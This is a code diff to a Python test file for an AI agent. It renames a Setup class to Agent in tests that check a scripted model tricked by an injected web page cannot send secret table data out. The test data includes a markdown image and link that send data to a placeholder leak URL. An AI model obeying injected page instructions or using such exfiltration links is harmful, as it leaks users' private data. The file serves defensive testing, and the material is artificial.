@@ -11,9 +11,10 @@ import pytest
 
 from agent.cli.terminal import Terminal
 from agent.events import Answered, Asked, Decided, Event, Observed, Prepared, Replied, ToolCalled, Waiting, dump
+from agent.loop.agent import Agent
 from agent.messages import Usage
 from agent.models.scripted import Scripted
-from agent.runs.conversation import Question, Setup, answer, go_on
+from agent.runs.conversation import Question, answer, go_on
 from agent.sandbox.client import Sandbox
 from agent.settings import read_settings
 from agent.sharing.export.collected import Exported, ExportedRun
@@ -129,7 +130,7 @@ def test_a_model_that_obeys_gets_nothing_out(sandbox: Sandbox, way: str) -> None
             model = Scripted([*obeying(found, canary.port), final(f"Done. ![x]({LEAK}?d=71234) [y]({LEAK}?d=71234)")])
             tools = Toolbox([searching, secret_table(), read_url_tool(fetcher, sandbox)])
             asked = Question(f"Who earns most? See {server.url('/')}", merging=False)
-            events = denying(asked, Setup(model, tools, "react"))
+            events = denying(asked, Agent(model, tools, "react"))
             model.finish()
             check(name, events)
         assert canary.count == 0
@@ -137,7 +138,7 @@ def test_a_model_that_obeys_gets_nothing_out(sandbox: Sandbox, way: str) -> None
         assert len(network.dialled) == len(server.hits)
 
 
-def denying(question: Question, setup: Setup) -> list[Event]:
+def denying(question: Question, setup: Agent) -> list[Event]:
     """The whole run of somebody who allows nothing."""
     events = list(answer(question, setup, Flag()))
     while isinstance(asked := events[-1], Waiting):
@@ -170,7 +171,7 @@ def check(name: str, events: list[Event]) -> None:
 
 def test_what_a_person_wrote_is_no_order_of_a_page() -> None:
     events: list[Event] = [
-        *list(answer(Question("q", merging=False), Setup(Scripted([react("a", "query", "x"), final("b")]),
+        *list(answer(Question("q", merging=False), Agent(Scripted([react("a", "query", "x"), final("b")]),
                                                            Toolbox([secret_table()]), "react"), Flag())),
     ]  # fmt: skip
     view = fold(events)
